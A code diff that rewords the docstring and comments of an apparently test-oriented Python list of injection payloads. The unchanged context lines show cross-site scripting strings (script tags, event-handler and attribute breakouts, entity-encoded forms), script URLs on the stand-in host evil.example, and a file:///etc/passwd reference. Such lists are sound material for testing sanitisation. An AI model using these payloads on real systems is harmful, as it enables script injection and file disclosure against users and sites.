@@ -1,6 +1,6 @@
-"""Words that would be code if anything took them for it: in HTML, CSS, a feed, a table, a calendar.
+"""Injection payloads for HTML, CSS, feeds, tables and calendars.
 
-In the spirit of the OWASP sheets on cross-site scripting and CSV injection; each calls `alert` or
+After the OWASP cheat sheets on cross-site scripting and CSV injection; each calls `alert` or
 asks a host of its own, so that a browser would show it.
 """
 
@@ -75,7 +75,7 @@ PAYLOADS = (
     "--!><script>alert(44)</script>",
     "<!--[if gte IE 4]><script>alert(45)</script><![endif]-->",
     "<!-- --><img src=x onerror=alert(46)>",
-    # Out of what they may stand in: an attribute, a title, a block of data, a script.
+    # Breaking out of the context: an attribute, a title, a block of data, a script.
     '"><script>alert(47)</script>',
     "'><script>alert(48)</script>",
     '" onmouseover="alert(49)',
@@ -110,7 +110,7 @@ PAYLOADS = (
     "//evil.example/x",
     "https://evil.example/x.js",
     "file:///etc/passwd",
-    # Entities: text that has to stay as it was typed, not what it stands for.
+    # Entities: text that has to stay as it was typed, undecoded.
     "&lt;script&gt;alert(74)&lt;/script&gt;",
     "&#60;script&#62;alert(75)&#60;/script&#62;",
     "&amp;lt;script&amp;gt;",
